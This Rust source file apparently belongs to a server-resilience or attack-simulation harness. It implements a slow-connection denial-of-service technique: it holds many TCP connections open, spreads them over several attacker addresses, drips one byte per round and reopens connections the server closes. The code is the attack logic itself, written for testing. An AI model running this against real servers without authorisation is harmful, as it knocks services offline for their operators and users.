//! Many connections that are held open and send almost nothing.

use super::attacker::{AttackCounters, Attacker};
use super::connection::TcpConnection;
use crate::system::process::raise_open_files;
use anyhow::Result;
use std::time::Duration;

/// Descriptors that the adversary reserves for everything else.
const DESCRIPTORS_RESERVED: usize = 256;

/// New connections between two checks of the old ones.
const BATCH: usize = 256;

/// Connections held open.
#[derive(Clone, Copy, Debug)]
pub struct HeldConnections {
    /// Number of connections; fewer where the adversary may not open as many files.
    pub connections: usize,
    /// Number of the attacker's addresses that the connections are spread over.
    pub hosts: usize,
    /// True for small socket buffers.
    pub has_small_buffers: bool,
    /// Bytes that each connection sends in a round; the rest of its queue waits.
    pub bytes_per_round: usize,
    /// Pause between rounds.
    pub pace: Duration,
}

impl HeldConnections {
    /// Creates connections from one address that send their bytes at once.
    pub fn new(connections: usize) -> Self {
        let pace = Duration::from_millis(50);
        Self { connections, hosts: 1, has_small_buffers: false, bytes_per_round: usize::MAX, pace }
    }

    /// Spreads the connections over this many addresses.
    #[must_use]
    pub fn from_hosts(mut self, hosts: usize) -> Self {
        self.hosts = hosts;
        self
    }

    /// Sets small socket buffers, from the first address.
    #[must_use]
    pub fn with_small_buffers(mut self) -> Self {
        self.has_small_buffers = true;
        self
    }

    /// Sends one byte in each round.
    #[must_use]
    pub fn dripping(mut self, pace: Duration) -> Self {
        (self.bytes_per_round, self.pace) = (1, pace);
        self
    }

    /// Holds the connections until the attack is over. `begin` queues the first bytes of a new
    /// connection; connections that the server closes are opened again.
    ///
    /// # Errors
    /// None; the result suits [`Attack::run`](super::attack::Attack::run).
    pub fn hold(
        &self,
        attacker: &Attacker,
        mut begin: impl FnMut(usize, &mut TcpConnection) -> Result<()>,
    ) -> Result<()> {
        let size = self.connections.min(raise_open_files().saturating_sub(DESCRIPTORS_RESERVED));
        let mut held: Vec<TcpConnection> = Vec::new();
        let mut number = 0;
        while !attacker.is_over() {
            for _ in 0..BATCH {
                if held.len() >= size || attacker.is_over() {
                    break;
                }
                number += 1;
                let connection = match self.has_small_buffers {
                    true => attacker.connect_small(),
                    false => attacker.connect_from(number % self.hosts),
                };
                let Ok(mut connection) = connection else { break };
                if begin(number, &mut connection).is_ok() {
                    held.push(connection);
                }
            }
            for connection in &mut held {
                connection.send_at_most(self.bytes_per_round);
                connection.discard(4096);
                AttackCounters::add(&attacker.sent.bytes, connection.take_sent_bytes());
            }
            held.retain(|connection| !connection.is_closed());
            let is_full = held.len() >= size;
            std::thread::sleep(if is_full { self.pace } else { Duration::from_millis(1) });
        }
        Ok(())
    }
}
